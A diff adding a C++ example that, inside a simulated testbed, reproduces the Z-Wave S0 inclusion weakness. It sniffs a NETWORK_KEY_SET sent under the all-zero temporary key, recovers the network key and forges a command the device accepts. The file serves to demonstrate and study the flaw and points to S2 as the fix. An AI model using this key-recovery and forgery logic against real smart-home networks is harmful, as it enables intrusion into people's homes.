@@ -1,0 +1,116 @@
+// The S0 inclusion weakness (paper §II-A1): "Security 0 uses AES-128
+// encryption but is susceptible to MITM attacks due to a fixed temporary
+// key during key exchange."
+//
+// This example replays that attack against the real S0 implementation in
+// src/zwave/security.h:
+//   1. a controller includes a legacy S0 device and ships the network key
+//      inside a NETWORK_KEY_SET encapsulated under the *all-zero temp key*;
+//   2. a passive attacker sniffs the exchange, decapsulates it with the
+//      same well-known temp key, and recovers the network key;
+//   3. from then on the attacker decrypts live S0 traffic and forges a
+//      valid encapsulated command of their own.
+#include <cstdio>
+
+#include "core/dongle.h"
+#include "crypto/ctr.h"
+#include "sim/testbed.h"
+#include "zwave/security.h"
+
+int main() {
+  using namespace zc;
+
+  sim::TestbedConfig config;
+  config.include_slaves = false;  // we script the S0 pair ourselves
+  sim::Testbed testbed(config);
+  auto& scheduler = testbed.scheduler();
+  const zwave::HomeId home = testbed.controller().home_id();
+
+  // The S0 pair: controller side (node 1) and a legacy wall plug (node 9).
+  radio::MacEndpoint plug(testbed.medium(),
+                          radio::RadioConfig{"s0-plug", zwave::RfRegion::kUs908, 5, 1, 0});
+  radio::MacEndpoint include_side(
+      testbed.medium(), radio::RadioConfig{"inclusion", zwave::RfRegion::kUs908, 0, 0, 0});
+
+  // The attacker's sniffer, outside the house.
+  core::ZWaveDongle sniffer(testbed.medium(), scheduler,
+                            testbed.attacker_radio_config("sniffer"));
+  sniffer.start_capture();
+
+  std::printf("=== S0 network-key interception (paper SII-A1) ===\n\n");
+
+  // --- Step 1: inclusion. The real network key, shipped under the temp key.
+  crypto::AesKey network_key{};
+  for (std::size_t i = 0; i < network_key.size(); ++i) {
+    network_key[i] = static_cast<std::uint8_t>(0xA0 + i);
+  }
+
+  const zwave::S0Session temp_session(zwave::s0_temp_key());
+  crypto::CtrDrbg controller_drbg(Bytes(32, 0x11));
+  crypto::CtrDrbg plug_drbg(Bytes(32, 0x22));
+
+  // NONCE_GET/REPORT then the encapsulated NETWORK_KEY_SET (0x98/0x06).
+  zwave::S0Session plug_temp_session(zwave::s0_temp_key());
+  const Bytes plug_nonce = plug_temp_session.make_nonce(plug_drbg);
+
+  zwave::AppPayload key_set;
+  key_set.cmd_class = zwave::kSecurity0Class;
+  key_set.command = 0x06;  // NETWORK_KEY_SET
+  key_set.params.assign(network_key.begin(), network_key.end());
+  const zwave::AppPayload key_exchange =
+      temp_session.encapsulate(key_set, 0x01, 0x09, plug_nonce, controller_drbg);
+
+  include_side.send(zwave::make_singlecast(home, 0x01, 0x09, key_exchange, 1, true));
+  scheduler.run_for(100 * kMillisecond);
+  std::printf("[inclusion] NETWORK_KEY_SET sent under the all-zero temp key\n");
+
+  // --- Step 2: the attacker decapsulates with the public temp key.
+  crypto::AesKey stolen_key{};
+  bool recovered = false;
+  for (const auto& captured : sniffer.captures()) {
+    if (!captured.frame.has_value()) continue;
+    const auto app = zwave::decode_app_payload(captured.frame->payload);
+    if (!app.ok() || app.value().cmd_class != zwave::kSecurity0Class ||
+        app.value().command != zwave::kS0MessageEncap) {
+      continue;
+    }
+    const zwave::S0Session attacker_temp(zwave::s0_temp_key());
+    const auto inner = attacker_temp.decapsulate(app.value(), captured.frame->src,
+                                                 captured.frame->dst, plug_nonce);
+    if (inner.ok() && inner.value().command == 0x06 &&
+        inner.value().params.size() == stolen_key.size()) {
+      std::copy(inner.value().params.begin(), inner.value().params.end(),
+                stolen_key.begin());
+      recovered = true;
+    }
+  }
+  std::printf("[attacker ] network key recovered: %s\n", recovered ? "YES" : "no");
+  if (!recovered) return 1;
+  std::printf("[attacker ] key = %s\n",
+              to_hex(ByteView(stolen_key.data(), stolen_key.size())).c_str());
+  const bool key_matches = stolen_key == network_key;
+  std::printf("[check    ] matches the real network key: %s\n\n",
+              key_matches ? "YES" : "no");
+
+  // --- Step 3: forge a valid S0 command with the stolen key.
+  const zwave::S0Session real_session(network_key);      // the home's session
+  const zwave::S0Session attacker_session(stolen_key);   // the attacker's copy
+  crypto::CtrDrbg attacker_drbg(Bytes(32, 0x66));
+  crypto::CtrDrbg victim_drbg(Bytes(32, 0x77));
+
+  const Bytes victim_nonce = zwave::S0Session(network_key).make_nonce(victim_drbg);
+  zwave::AppPayload off;
+  off.cmd_class = 0x25;  // SWITCH_BINARY SET
+  off.command = 0x01;
+  off.params = {0x00};
+  const zwave::AppPayload forged =
+      attacker_session.encapsulate(off, 0xE7, 0x09, victim_nonce, attacker_drbg);
+
+  const auto accepted = real_session.decapsulate(forged, 0xE7, 0x09, victim_nonce);
+  std::printf("[forgery  ] S0 device accepts the attacker's encapsulation: %s\n",
+              accepted.ok() ? "YES (lights out)" : "no");
+  std::printf("\nconclusion: S0's fixed temp key turns one sniffed inclusion into full "
+              "network compromise;\nS2's ECDH agreement (see tests/zwave/security_test.cpp) "
+              "closes exactly this hole.\n");
+  return accepted.ok() && key_matches && recovered ? 0 : 1;
+}
